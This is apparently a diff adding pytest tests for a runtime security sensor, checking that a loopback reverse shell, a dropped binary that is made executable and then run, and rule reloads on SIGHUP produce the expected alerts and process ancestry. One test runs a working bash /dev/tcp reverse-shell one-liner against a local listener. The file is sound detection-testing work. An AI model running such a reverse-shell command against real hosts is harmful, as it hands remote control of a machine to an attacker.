@@ -1,0 +1,106 @@
+"""Detection on the live stream: real attacks on loopback raise the right
+alerts, with the process ancestry; rules reload on SIGHUP without loss."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import threading
+import time
+from pathlib import Path
+
+from conftest import KTRAIL
+
+
+def alerts(trace, rule: str) -> list[dict]:
+    return [e for e in trace.events
+            if e["evt"]["type"] == "alert" and e["alert"]["rule"] == rule]
+
+
+def test_reverse_shell_raises_an_alert_with_ancestry(sensor) -> None:
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(1)
+    port = srv.getsockname()[1]
+
+    def attacker() -> None:
+        conn, _ = srv.accept()
+        conn.sendall(b"exit\n")
+        time.sleep(0.5)
+        conn.close()
+    t = threading.Thread(target=attacker)
+    t.start()
+    s = sensor("--alerts-only")
+    p = subprocess.run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"],
+                       timeout=30, capture_output=True)
+    t.join()
+    srv.close()
+    trace = s.stop()
+    assert all(e["evt"]["type"] == "alert" for e in trace.events), "--alerts-only"
+    [a] = alerts(trace, "Reverse shell")
+    assert a["alert"]["priority"] == "CRITICAL" and "T1059.004" in a["alert"]["mitre"]
+    assert f"127.0.0.1:{port}" in a["alert"]["output"]
+    [ev] = a["alert"]["events"]
+    assert ev["evt"]["type"] == "connect" and ev["net"]["dport"] == port
+    # The ancestry reaches this test process.
+    assert os.getpid() in [x["pid"] for x in a["proc"]["ancestors"]], a["proc"]["ancestors"]
+    assert p.returncode is not None
+
+
+def test_drop_chmod_execute_sequence(sensor, tmp_path: Path) -> None:
+    s = sensor("--alerts-only")
+    drop = tmp_path / "implant"
+    subprocess.run(["sh", "-c", f"cp /bin/true {drop} && chmod 755 {drop} && {drop}"],
+                   check=True, timeout=30)
+    trace = s.stop()
+    [a] = alerts(trace, "Dropped binary made executable and run")
+    steps = [e["evt"]["type"] for e in a["alert"]["events"]]
+    assert steps == ["create", "chmod", "exec"]
+    assert a["alert"]["events"][0]["file"]["path"] == str(drop)
+    assert a["proc"]["exe"] == str(drop)
+    assert alerts(trace, "Execution from a temporary directory")
+
+
+def test_sighup_reloads_rules_and_a_bad_file_keeps_the_old(sensor, tmp_path: Path) -> None:
+    rules = tmp_path / "local.yaml"
+    marker = tmp_path / "marker-tool"
+    shutil.copy("/bin/true", marker)
+    rule = """
+- rule: Marker tool ran
+  desc: test rule
+  condition: evt.type = exec and proc.name = {name}
+  output: marker %proc.exe
+  priority: NOTICE
+  tags: [T1204]
+"""
+    rules.write_text(rule.format(name="marker-tool"))
+    s = sensor("--alerts-only", "--no-default-rules", "--rules", str(rules))
+    subprocess.run([str(marker)], check=True)
+    rules.write_text("- rule: [broken\n")
+    s.proc.send_signal(signal.SIGHUP)
+    time.sleep(0.5)
+    subprocess.run([str(marker)], check=True)       # old rules still on
+    rules.write_text(rule.format(name="nothing-matches"))
+    s.proc.send_signal(signal.SIGHUP)
+    time.sleep(0.5)
+    subprocess.run([str(marker)], check=True)       # new rule: no alert
+    trace = s.stop()
+    assert len(alerts(trace, "Marker tool ran")) == 2
+    assert "rules not reloaded, the old rules stay" in trace.stderr
+    assert f"{rules}:2:1" in trace.stderr            # where the YAML broke
+    assert "rules reloaded: 1 rules" in trace.stderr
+    assert trace.final["detection"]["reloads"] == 1
+    assert trace.final["detection"]["reload_errors"] == 1
+
+
+def test_a_bad_rule_file_stops_nothing_and_names_the_place(tmp_path: Path) -> None:
+    bad = tmp_path / "bad.yaml"
+    bad.write_text("- rule: X\n  condition: evt.type = exec and proc.nmae = sh\n  output: x\n")
+    p = subprocess.run([*KTRAIL, "run", "--rules", str(bad), "--duration", "1"],
+                       capture_output=True, text=True, timeout=60)
+    assert p.returncode == 2
+    assert f"{bad}:2:34: rule 'X': condition, column 21: unknown field 'proc.nmae'" in p.stderr
+    assert "Traceback" not in p.stderr
